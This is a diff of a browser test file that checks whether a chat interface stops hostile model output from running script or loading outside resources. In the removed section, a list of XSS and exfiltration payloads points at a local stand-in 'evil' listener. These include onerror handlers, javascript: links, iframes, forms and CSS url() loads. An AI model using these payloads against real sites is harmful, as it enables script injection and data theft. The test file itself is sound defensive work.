@@ -2,75 +2,21 @@
 
 from __future__ import annotations
 
-import socketserver
-import threading
 from collections.abc import Iterator
-from typing import ClassVar
 
 import pytest
 from playwright.sync_api import Page, expect
 
 from tests.fakes.fake_gateway import FakeGateway, Reply
+from tests.fakes.hostile_outputs import Listener, load_hostile_outputs
 
 pytestmark = pytest.mark.browser
 
 
-class Evil(socketserver.ThreadingTCPServer):
-    """A listener that nobody should ever connect to."""
-
-    # Chromium may open a connection ahead of a request that is then refused; only what is sent counts.
-    block_on_close = False
-    daemon_threads = True
-    visits: ClassVar[list[bytes]] = []
-
-
-class EvilHandler(socketserver.BaseRequestHandler):
-    def handle(self) -> None:
-        if sent := self.request.recv(200):
-            Evil.visits.append(sent)
-
-
 @pytest.fixture
-def evil() -> Iterator[str]:
-    Evil.visits.clear()
-    with Evil(("127.0.0.1", 0), EvilHandler) as server:
-        threading.Thread(target=server.serve_forever, daemon=True).start()
-        yield f"http://127.0.0.1:{server.server_address[1]}"
-        server.shutdown()
-
-
-def payloads(evil: str) -> list[str]:
-    run = "window.pwned=1"
-    data = "data:text/html,<script>parent.pwned=1</script>"
-    return [
-        f"<script>{run}</script>",
-        f'<script src="{evil}/a.js"></script>',
-        f'<img src="x" onerror="{run}">',
-        f'<img src="{evil}/a.png">',
-        f"![x]({evil}/b.png)",
-        f"![x][r]\n\n[r]: {evil}/c.png",
-        f"[click](javascript:{run})",
-        f"<a href='javascript:{run}'>click</a>",
-        f"<javascript:{run}>",
-        f"[click]({data})",
-        f'<svg onload="{run}"><image href="{evil}/d.png"/></svg>',
-        f'<iframe src="{evil}/e"></iframe><iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
-        f'<object data="{evil}/f"></object><embed src="{evil}/g">',
-        f'<form action="{evil}/h"><button>Log in</button></form>',
-        f"<style>body{{background:url({evil}/i.png)}}</style>",
-        f'<link rel="stylesheet" href="{evil}/j.css"><meta http-equiv="refresh" content="0;url={evil}/k">',
-        f'<div style="background:url({evil}/l.png)" onmouseover="{run}">x</div>',
-        f"<details open ontoggle={run}>x</details>",
-        f'<video src="{evil}/m" autoplay onloadstart="{run}"></video><audio src="{evil}/n"></audio>',
-        f"$\\href{{javascript:{run}}}{{x}} \\includegraphics{{{evil}/o.png}}$",
-        f"$$<img src=x onerror={run}>$$",
-        f"```html\n<img src=x onerror={run}>\n```",
-        f'```" onmouseover="{run}\n<img src=x onerror={run}>\n```',
-        f'```mermaid\ngraph TD; A[<img src=x onerror={run}>]-->B; click A href "javascript:{run}"\n```',
-        f"<br/><img src=x onerror={run}>`<img src=x onerror={run}>`",
-        f"%%%LATEX_BLOCK_0%%% $<svg onload={run}>$",
-        f"<base href='{evil}/'>",
-    ]
+def listener() -> Iterator[Listener]:
+    with Listener() as found:
+        yield found
 
 
 def ask(page: Page, text: str = "Hi") -> None:
@@ -78,17 +24,21 @@ def ask(page: Page, text: str = "Hi") -> None:
     page.get_by_label("Your message").press("Enter")
 
 
-def test_nothing_of_hostile_output_runs_or_is_fetched(page: Page, site: FakeGateway, evil: str) -> None:
+def test_nothing_of_hostile_output_runs_or_is_fetched(
+    page: Page, site: FakeGateway, listener: Listener
+) -> None:
     dialogs: list[str] = []
     outside: list[str] = []
     page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
     root = (site.url(), "data:", "blob:")
     page.on("request", lambda r: None if r.url.startswith(root) else outside.append(r.url))
-    whole = "\n\n".join(payloads(evil))
-    site.default = Reply(whole + "\n\nTHE END", reasoning=whole)
-    ask(page)
-    expect(page.get_by_text("THE END")).to_be_visible()
-    page.locator(".thought-group .title").first.click()
+    for number, whole in enumerate(list_answers(listener.url)):
+        # At once: how it looks half written isn't the point here.
+        site.default = Reply(f"{whole}\n\nEND {number}.", reasoning=whole)
+        ask(page)
+        expect(page.locator("[data-testid=bot]").get_by_text(f"END {number}.")).to_be_visible()
+    for title in page.locator(".thought-group .title").all():
+        title.click()
     expect(page.get_by_text("Log in").first).to_be_visible()
     page.evaluate(
         """for (const element of document.querySelectorAll("[data-testid=bot] *")) {
@@ -97,11 +47,15 @@ def test_nothing_of_hostile_output_runs_or_is_fetched(page: Page, site: FakeGate
         }"""
     )
     assert page.evaluate("window.pwned") is None
-    assert Evil.visits == []
-    assert dialogs == []
-    assert outside == []
+    assert (listener.visits, dialogs, outside) == ([], [], [])
     found = page.locator("[data-testid=bot]").locator(":is(" + FORBIDDEN + ")")
     assert [element.evaluate("e => e.outerHTML") for element in found.all()] == []
+
+
+def list_answers(evil: str, size: int = 14) -> list[str]:
+    """A few long answers that hold them all but those that are about size."""
+    texts = [entry.markdown for entry in load_hostile_outputs(evil) if not entry.is_large]
+    return ["\n\n".join(texts[i : i + size]) for i in range(0, len(texts), size)]
 
 
 FORBIDDEN = "script, iframe, form, style, object, embed, video, audio, base, link, meta, img"
@@ -156,8 +110,11 @@ ATTEMPT = """async (html) => {
 }"""
 
 
-def test_what_got_past_every_filter_would_still_be_stopped_by_the_policy(page: Page, evil: str) -> None:
-    blocked = {name: page.evaluate(ATTEMPT, html.replace("EVIL", evil)) for name, html in ATTACKS.items()}
+def test_what_got_past_every_filter_would_still_be_stopped_by_the_policy(
+    page: Page, listener: Listener
+) -> None:
+    attacks = {name: html.replace("EVIL", listener.url) for name, html in ATTACKS.items()}
+    blocked = {name: page.evaluate(ATTEMPT, html) for name, html in attacks.items()}
     assert blocked == {
         "handler": "script-src-attr",
         "image": "img-src",
@@ -169,7 +126,7 @@ def test_what_got_past_every_filter_would_still_be_stopped_by_the_policy(page: P
         "inner page": "nothing",
     }
     assert page.evaluate("window.pwned") is None
-    assert Evil.visits == []
+    assert listener.visits == []
 
 
 def test_the_page_cant_be_framed_by_others(page: Page, site: FakeGateway) -> None:
